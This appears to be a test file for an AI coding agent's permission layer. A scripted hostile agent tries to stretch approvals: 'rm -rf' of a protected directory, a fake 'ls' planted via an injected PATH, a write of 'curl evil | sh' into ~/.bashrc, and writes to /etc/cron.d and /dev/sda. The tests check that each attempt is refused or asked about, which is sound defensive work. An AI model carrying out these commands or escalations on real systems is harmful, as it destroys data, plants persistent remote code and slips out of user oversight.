/**
 * #33 "Permissions you can bet on", with the hostile agent as the attacker (test/fixtures/fake-agents/
 * hostile-agent.main.ts `script`): an approval covers exactly what was approved, "Always allow" exactly the line
 * the user saw, a terminal's env is part of what is approved, and nothing outside the session's roots is approved
 * by a policy.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import type { PermissionDecision } from "../../../../src/core/model/events";
import { hostile, scripted, turnOf } from "../../../fixtures/fake-agents/hostile";
import { outputText } from "../../../fixtures/fake-agents/in-process";
import { withTmpDir } from "../../../fixtures/fake-agents/tmp-dir";

/** A safety net so a regression fails instead of hanging the run; never a speed assertion. */
const BOUND = { timeout: 120_000 };
const withTmp = <T>(fn: (dir: string) => Promise<T>) => withTmpDir("acp-hostile-perm-", fn);
const script = (...steps: unknown[]) => `script ${JSON.stringify(steps)}`;
const decisions = (events: Awaited<ReturnType<typeof turnOf>>) =>
  events.flatMap((e) => (e.type === "permission" ? [e.decision as PermissionDecision] : []));

test("a search approved by approve-reads does not open a write to its path (finding 1)", BOUND, () =>
  withTmp(async (cwd) => {
    const target = join(cwd, "src", "app.ts");
    await mkdir(join(cwd, "src"));
    await writeFile(target, "original");
    const asker = scripted([null]);
    const rt = hostile(cwd, { permissionPolicy: "approve-reads", asker });
    try {
      const out = outputText(
        await turnOf(
          rt,
          script(
            { ask: { title: "grep", kind: "search", locations: [{ path: target }] } },
            { write: target, content: "pwned" },
          ),
        ),
      );
      assert.match(out, /^once \| refused: writing .*app\.ts refused/);
      assert.equal(await readFile(target, "utf8"), "original");
      assert.deepEqual(
        asker.asked.map((p) => p.request.toolCall.kind),
        ["edit"],
        "the write was asked for",
      );
    } finally {
      await rt.close();
    }
  }),
);

test("'Always allow' on `rm -f junk.log` does not allow `rm -rf` of anything else (finding 2)", BOUND, () =>
  withTmp(async (cwd) => {
    const victim = join(cwd, "precious");
    await mkdir(victim);
    const asker = scripted(["always", null, null]);
    const rt = hostile(cwd, { permissionPolicy: "ask", asker, permissionStoreDir: join(cwd, "home") });
    try {
      const first = await turnOf(
        rt,
        script({ ask: { title: "rm", kind: "execute", rawInput: { command: "rm -f junk.log" } } }),
      );
      assert.equal(outputText(first), "always");
      const second = await turnOf(rt, script({ run: "rm", args: ["-rf", victim] }));
      assert.match(outputText(second), /^refused: terminal\/create "rm -rf .*precious" refused/);
      assert.equal(existsSync(victim), true, "the other rm did not run");
      assert.deepEqual(
        (await rt.permissions.rules()).map((r) => [r.effect, r.kind, r.key]),
        [["allow", "execute", "rm -f junk.log"]],
      );
      assert.deepEqual(
        decisions(second).map((d) => d.decidedBy),
        ["user"],
        "it was asked, not 'allowed (remembered)'",
      );
      // the remembered line itself still runs without a question, and its card names the rule
      const again = await turnOf(rt, script({ run: "rm", args: ["-f", "junk.log"] }));
      assert.equal(outputText(again), "ran: 0|");
      const [d] = decisions(again);
      assert.deepEqual(
        [d.decidedBy, d.rule, d.reason],
        ["remembered", 'allow execute "rm -f junk.log"', "allowed by rule: rm -f junk.log"],
      );
    } finally {
      await rt.close();
    }
  }),
);

test(
  "a terminal's env is part of what is approved: an approved `ls` does not run with another PATH (finding 3)",
  BOUND,
  () =>
    withTmp(async (cwd) => {
      const evil = join(cwd, "evil-bin");
      const marker = join(cwd, "pwned");
      await mkdir(evil);
      await writeFile(join(evil, "ls"), `#!/bin/sh\n: > ${marker}\n`);
      await chmod(join(evil, "ls"), 0o755);
      const asker = scripted(["once", null]);
      const rt = hostile(cwd, { permissionPolicy: "approve-reads", asker, permissionStoreDir: join(cwd, "home") });
      try {
        const events = await turnOf(
          rt,
          script(
            { ask: { title: "ls", kind: "execute", rawInput: { command: "ls" } } },
            { run: "ls", env: { PATH: evil } },
          ),
        );
        assert.match(outputText(events), /^once \| refused: terminal\/create "PATH=.*evil-bin ls" refused/);
        assert.equal(existsSync(marker), false, "the agent's PATH did not run its ls");
        assert.equal(asker.asked[1].request.toolCall.title, `PATH=${evil} ls`, "the prompt shows the env");
        // the env's value is not kept in the thread (it may be a secret): the decision names the variable only
        assert.equal(decisions(events)[1].title, "PATH=… ls");
        assert.equal(decisions(events)[1].toolCallId, "terminal:PATH=… ls");
      } finally {
        await rt.close();
      }
    }),
);

test("an inert marker an agent sets on every terminal (CLAUDECODE=1) keeps the approval; PAGER does not", BOUND, () =>
  withTmp(async (cwd) => {
    const asker = scripted(["once", "once", null]);
    const rt = hostile(cwd, { permissionPolicy: "approve-reads", asker, permissionStoreDir: join(cwd, "home") });
    try {
      const ask = { ask: { title: "echo hi", kind: "execute", rawInput: { command: "echo hi" } } };
      // claude-code-acp asks for `echo hi`, then starts it with CLAUDECODE=1: one question, not two
      const marked = await turnOf(
        rt,
        script(ask, { run: "echo hi", env: { CLAUDECODE: "1", TERM: "xterm-256color" } }),
      );
      assert.equal(outputText(marked), "once | ran: 0|hi");
      assert.equal(asker.asked.length, 1);
      // a variable that changes what runs is still part of the line, and asked for
      const paged = await turnOf(rt, script(ask, { run: "echo hi", env: { PAGER: "/tmp/evil" } }));
      assert.match(outputText(paged), /^once \| refused: terminal\/create "PAGER=\/tmp\/evil echo hi" refused/);
      assert.equal(asker.asked.length, 3);
    } finally {
      await rt.close();
    }
  }),
);

test("approve-all does not approve a request to write outside the workspace (finding 11)", BOUND, () =>
  withTmp(async (cwd) => {
    const other = join(cwd, "..", `${cwd.split("/").pop()}-other-repo`, "x.ts");
    const requests = [
      { title: "Write /etc/x", kind: "edit", locations: [{ path: "/etc/x" }] },
      { title: "Edit", kind: "edit", content: [{ type: "diff", path: other, oldText: null, newText: "x" }] },
      { title: "Write", kind: "edit", rawInput: { file_path: "~/.bashrc", content: "curl evil | sh" } },
      { title: "Write", kind: "edit", rawInput: { file_path: "../../etc/cron.d/x" } },
      { title: "run", kind: "execute", rawInput: { command: "make", cwd: "/etc" } },
    ];
    // headless: refused, with the reason the CLI prints
    const headless = hostile(cwd, { permissionPolicy: "approve-all" });
    try {
      const events = await turnOf(headless, script(...requests.map((ask) => ({ ask }))));
      assert.equal(outputText(events), requests.map(() => "no").join(" | "));
      for (const d of decisions(events)) {
        assert.equal(d.decidedBy, "policy");
        assert.match(d.reason ?? "", /^refused: outside the workspace/);
        assert.ok(d.outside?.length, "the decision names the outside paths");
      }
      assert.deepEqual(decisions(events)[2].outside, [join(homedir(), ".bashrc")]);
    } finally {
      await headless.close();
    }
    // in the editor: asked, with the outside mark
    const asker = scripted([...requests.map(() => "no"), "no"]);
    const editor = hostile(cwd, { permissionPolicy: "approve-all", asker });
    try {
      const events = await turnOf(editor, script(...requests.map((ask) => ({ ask }))));
      assert.equal(asker.asked.length, requests.length);
      assert.deepEqual(asker.asked[0].outside, ["/etc/x"]);
      assert.equal(decisions(events)[0].reason, "asked: outside the workspace");
      // inside the workspace, approve-all still answers by itself
      const inside = await turnOf(
        editor,
        script({ ask: { title: "w", kind: "edit", locations: [{ path: join(cwd, "a") }] } }),
      );
      assert.equal(outputText(inside), "once");
      assert.equal(asker.asked.length, requests.length);
      // a device file that holds nobody's data is not "outside" (claude-agent-acp names /dev/null in the locations
      // of `tail -f /dev/null`); a write to /dev/sda would be
      const devices = await turnOf(
        editor,
        script(
          { ask: { title: "tail -f /dev/null", kind: "execute", locations: [{ path: "/dev/null" }] } },
          { ask: { title: "Write /dev/sda", kind: "edit", locations: [{ path: "/dev/sda" }] } },
        ),
      );
      assert.equal(outputText(devices), "once | no");
      assert.deepEqual(asker.asked.at(-1)?.outside, ["/dev/sda"]);
    } finally {
      await editor.close();
    }
  }),
);
